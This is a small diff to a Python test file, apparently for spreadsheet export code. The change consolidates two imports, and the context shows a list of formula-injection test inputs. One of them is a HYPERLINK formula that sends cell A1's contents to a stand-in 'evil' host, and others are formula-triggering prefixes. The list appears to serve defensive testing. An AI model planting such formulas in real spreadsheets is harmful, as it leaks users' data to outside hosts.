@@ -13,8 +13,7 @@ from hypothesis import strategies as st
 from adapters.platform.spreadsheets import RUNS, cell, text_of
 from local.analyst.answer import Answer
 from local.analyst.printing import as_cells, write
-from local.move_in.refused_file import RefusedFile
-from local.move_in.rows import RefusedRow, columns_of, read_rows
+from local.move_in.rows import RefusedFile, RefusedRow, columns_of, read_rows
 from processors.erasure import _Table
 
 RUNNING = ['=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
